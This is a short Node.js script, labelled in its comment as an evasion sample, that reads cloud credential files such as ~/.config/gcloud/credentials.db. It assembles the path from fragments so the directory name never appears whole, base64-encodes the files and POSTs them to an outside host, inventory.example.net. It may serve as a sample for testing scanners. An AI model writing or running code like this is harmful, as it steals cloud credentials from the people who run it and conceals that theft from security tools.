// Evasion: reads cloud credentials. The path is a template literal whose
// interpolated part takes each value of a small list of "vendors", so the
// directory name (.config/gcloud) never appears whole in the program.
'use strict';
const fs = require('fs');
const os = require('os');

const VENDORS = ['gcl', 'az'];
const found = {};

for (const v of VENDORS) {
  const file = `${os.homedir()}/.config/${v}oud/credentials.db`;
  try {
    found[v] = fs.readFileSync(file).toString('base64');
  } catch {
    // not installed
  }
}

fetch('https://inventory.example.net/hosts', { method: 'POST', body: JSON.stringify(found) }).catch(() => {});
